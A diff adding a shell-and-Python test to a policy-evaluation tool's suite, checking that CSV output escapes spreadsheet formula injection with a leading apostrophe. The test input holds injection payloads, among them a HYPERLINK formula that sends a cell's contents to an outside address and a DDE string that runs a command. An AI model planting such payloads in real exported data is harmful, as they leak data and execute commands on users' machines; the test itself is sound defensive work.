@@ -143,6 +143,54 @@ with open(sys.argv[1], "rb") as f:
 assert data.count(b"\r\n") == 13 and data.count(b"\n") == 13, "CRLF line ends"
 EOF
 
+# --output csv: a cell of text that may hold what an applicant wrote (the
+# id, the error) and that a spreadsheet would take for a formula (= + - @,
+# a tab or a CR first, after any apostrophes) is written quoted after an
+# apostrophe, as OWASP recommends; the amounts polrun computed are
+# written as they are.
+cat > "$T/formula.pol" <<'POL'
+policy "t"
+  title "T"
+  in force from 2025-01-01 for 3 years
+  identified by ref
+
+facts {
+  ref: text
+  paid: money
+}
+
+measure award
+  article "1"
+  title "A"
+  when paid > 0 元
+  amount fixed 100 元
+POL
+printf '%s\r\n' 'ref,paid' '"=HYPERLINK(""http://example.com/?q=""&A1;""x"")",15.00' "@SUM(1+1)*cmd|' /C calc'!A0,1.00" \
+    '+1,1.00' '-2,1.00' "	tab,1.00" "'=x,1.00" "''@y,1.00" "'plain,1.00" 'A-1,1.00' '=bad,x' > "$T/formula.csv"
+for j in 1 2; do
+    "$P" batch "$T/formula.pol" --date 2025-06-30 --input csv --output csv --no-bom --jobs $j < "$T/formula.csv" \
+        > "$T/formula.out" 2>/dev/null
+    status $? 3 "formula ids: a bad row exits 3 (--jobs $j)"
+    python3 - "$T/formula.out" <<'PY' && ok || bad "cells a spreadsheet would take for formulas are neutralised (--jobs $j): $(cat "$T/formula.out")"
+import csv, sys
+data = open(sys.argv[1], encoding="utf-8", newline="").read()
+rows = list(csv.reader(data.splitlines(True)))
+ids = [r[0] for r in rows[1:]]
+want = ["'=HYPERLINK(\"http://example.com/?q=\"&A1;\"x\")", "'@SUM(1+1)*cmd|' /C calc'!A0", "'+1", "'-2",
+        "'\ttab", "''=x", "'''@y", "'plain", "A-1", "'=bad"]
+assert ids == want, ids
+assert rows[1][3:5] == ["100.00", "100.00"], rows[1]
+assert rows[10][-1].startswith("line 11: $.paid: "), rows[10][-1]
+# quoted in the file, so that the apostrophe is inside the cell
+assert "\r\n\"'=HYPERLINK(" in data and "\r\n\"'-2\"," in data and "\r\nA-1," in data, data
+# taken off again: one apostrophe less where the rest begins with one of them
+def original(c):
+    return c[1:] if c.startswith("'") and c.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r") else c
+assert [original(c) for c in ids] == ['=HYPERLINK("http://example.com/?q="&A1;"x")', "@SUM(1+1)*cmd|' /C calc'!A0",
+                                     "+1", "-2", "\ttab", "'=x", "''@y", "'plain", "A-1", "=bad"]
+PY
+done
+
 # The same applicants as NDJSON and as CSV get the same decisions.
 "$GEN" --count 20000 --seed 5 > "$T/g.ndjson"
 "$GEN" --count 20000 --seed 5 --format csv > "$T/g.csv"
